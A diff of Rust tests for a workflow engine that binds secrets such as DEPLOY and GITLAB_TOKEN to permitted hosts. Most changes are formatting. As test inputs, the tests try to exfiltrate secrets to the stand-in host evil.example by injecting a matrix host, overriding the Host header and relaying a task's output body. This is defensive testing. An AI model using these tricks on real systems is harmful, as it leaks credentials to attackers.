@@ -172,7 +172,12 @@ fn a_secret_of_the_environment_is_bound_by_its_name() {
     // What opens a service belongs there, although nobody has bound it.
     let task = task.replace("TOKEN", "GITLAB_TOKEN");
     let refused = first(&house, &task).unwrap_err();
-    assert!(refused.contains("GITLAB_TOKEN may be sent to gitlab.com alone, and this task sends to b.example; Settings,"), "{refused}");
+    assert!(
+        refused.contains(
+            "GITLAB_TOKEN may be sent to gitlab.com alone, and this task sends to b.example; Settings,"
+        ),
+        "{refused}"
+    );
     save(&house, r#"name: "GITLAB_TOKEN", hosts: []"#);
     assert!(first(&house, &task).is_ok());
 }
@@ -181,16 +186,20 @@ fn a_secret_of_the_environment_is_bound_by_its_name() {
 fn no_copy_of_a_task_and_no_answer_takes_a_secret_elsewhere() {
     let house = house();
     save(&house, r#"name: "DEPLOY", value: "open sesame", hosts: ["api.example.com"]"#);
-    let copies = ask("https://{{ Matrix.host }}/x").replacen('{', r#"{ matrix: "{\"host\": [\"evil.example\"]}","#, 1);
+    let copies =
+        ask("https://{{ Matrix.host }}/x").replacen('{', r#"{ matrix: "{\"host\": [\"evil.example\"]}","#, 1);
     let refused = first(&house, &copies).unwrap_err();
     assert!(refused.starts_with("SecretHost: the secret DEPLOY"), "{refused}");
-    let header = ask("https://api.example.com/x").replace("auth_type", r#"headers: { Host: "evil.example" }, auth_type"#);
+    let header = ask("https://api.example.com/x")
+        .replace("auth_type", r#"headers: { Host: "evil.example" }, auth_type"#);
     assert!(first(&house, &header).unwrap_err().ends_with("this task sends to evil.example"));
 
     // A service that repeats what it was sent is not a way out.
     let tell = r#"{ id: "tell", type: "integrations.http", depends_on: ["ask"], params: { url: "https://evil.example", body: "{{ Tasks.ask.output.body }}" } }"#;
     create(&house, "repeats", "PAUSED", MANUAL, &format!("{} {tell}", ask("https://api.example.com/x")));
-    let listed = house.answers(&format!(r#"{{ workflow_list(request: {{ account_id: "{OWN}", name: "repeats" }}) {{ workflows {{ id }} }} }}"#));
+    let listed = house.answers(&format!(
+        r#"{{ workflow_list(request: {{ account_id: "{OWN}", name: "repeats" }}) {{ workflows {{ id }} }} }}"#
+    ));
     trigger(&house, listed["workflow_list"]["workflows"][0]["id"].as_str().unwrap());
     let run = claimed(&house.store);
     assert_eq!(step(&house.store, run, Vec::new(), &[]).calls.len(), 1);
@@ -212,7 +221,9 @@ fn a_token_of_a_service_goes_there_until_somebody_binds_it() {
         let mut next = step(&house.store, claimed(&house.store), Vec::new(), &[]);
         match next.calls.pop().map(|call| call.work) {
             Some(Ok(RunWork::Pull(_))) => assert_eq!(expected, ""),
-            Some(Err(failure)) => assert!(!expected.is_empty() && failure.message.contains(expected), "{failure:?}"),
+            Some(Err(failure)) => {
+                assert!(!expected.is_empty() && failure.message.contains(expected), "{failure:?}")
+            }
             other => panic!("{other:?}"),
         }
     };
@@ -227,7 +238,10 @@ fn a_token_of_a_service_goes_there_until_somebody_binds_it() {
     let refused = house.refuses(&format!(
         r#"mutation {{ workflow_validate(request: {{ account_id: "{OWN}", workflow: {{ name: "x", definition: {{ triggers: [{MANUAL}] tasks: [{pull}] }} }} }}) {{ message }} }}"#
     ));
-    assert!(refused.contains("tasks[0].params: the secret GITHUB_TOKEN may be sent to api.github.com"), "{refused}");
+    assert!(
+        refused.contains("tasks[0].params: the secret GITHUB_TOKEN may be sent to api.github.com"),
+        "{refused}"
+    );
     with(r#"name: "GITHUB_TOKEN", hosts: ["git.own.example"]"#);
     began("");
     // Another value keeps its hosts; without any it goes anywhere, because somebody says so.
